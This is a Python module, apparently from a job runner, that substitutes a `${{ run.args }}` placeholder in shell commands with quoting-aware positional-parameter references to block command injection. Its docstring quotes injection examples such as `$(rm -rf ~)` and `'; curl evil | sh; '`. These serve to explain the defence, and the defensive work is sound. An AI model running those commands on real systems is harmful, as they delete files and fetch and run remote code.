"""`${{ run.args }}` in a task's commands, made safe wherever it is written.

The arguments given after the task file never become shell text. The runner passes them to the
job's script as its positional parameters (`bash job.sh ARG...`), and each `${{ run.args }}` is
replaced by a *reference* to them that fits the quoting around it:

    unquoted                 ${{ run.args }}        →  "$@"     one word per argument
    inside "..."             "x ${{ run.args }}"    →  "x $*"   the arguments joined by spaces
    inside '...'             'x ${{ run.args }}'    →  'x '"$*"''
    inside $'...'            $'x ${{ run.args }}'   →  $'x '"$*"$''

The shell expands a reference to parameters once and never reads what it expands as code, so an
argument like `$(rm -rf ~)`, `'; curl evil | sh; '` or a backtick is only ever text. For arguments
without quotes or spaces in them the job sees what dstack's textual substitution gives. A command
that runs `set --` or `shift` before `${{ run.args }}` changes what the reference expands to.
"""

from __future__ import annotations

import re

ARGS_RE = re.compile(r"\$\{\{\s*run\.args\s*\}\}")

_REFERENCE = {
    "plain": '"$@"',  # unquoted, or inside $( ... ) or backticks
    "double": "$*",
    "single": "'\"$*\"'",
    "ansi": "'\"$*\"$'",
}


def substitute_args(command: str) -> str:
    """`command` with each `${{ run.args }}` replaced by the reference its quoting needs."""
    out: list[str] = []
    contexts: list[str] = ["plain"]  # innermost last: plain, double, single, ansi, subst, tick
    i = 0
    while i < len(command):
        match = ARGS_RE.match(command, i)
        if match:
            out.append(_REFERENCE[_quoting(contexts)])
            i = match.end()
            continue
        char = command[i]
        here = contexts[-1]
        step = 1
        if here == "single":
            if char == "'":
                contexts.pop()
        elif here == "ansi":
            if char == "\\":
                step = 2
            elif char == "'":
                contexts.pop()
        elif char == "\\":
            step = 2  # an escaped character is text, in every other context
        elif here == "double":
            if char == '"':
                contexts.pop()
            elif command.startswith("$(", i) and not command.startswith("$((", i):
                contexts.append("subst")
                step = 2
            elif char == "`":
                contexts.append("tick")
        else:  # plain, subst, tick: where quotes open
            if char == "#" and (i == 0 or command[i - 1] in " \t\n;|&("):
                end = command.find("\n", i)  # a comment: its quotes open nothing
                step = (len(command) if end < 0 else end) - i
            elif char == "'":
                contexts.append("single")
            elif command.startswith("$'", i):
                contexts.append("ansi")
                step = 2
            elif char == '"':
                contexts.append("double")
            elif command.startswith("$(", i) and not command.startswith("$((", i):
                contexts.append("subst")
                step = 2
            elif char == "`":
                if here == "tick":
                    contexts.pop()
                else:
                    contexts.append("tick")
            elif char == "(" and here == "subst":
                contexts.append("subst")  # a nested parenthesis closes before its $( does
            elif char == ")" and here == "subst":
                contexts.pop()
        out.append(command[i : i + step])
        i += step
    return "".join(out)


def _quoting(contexts: list[str]) -> str:
    here = contexts[-1]
    return "plain" if here in ("subst", "tick") else here
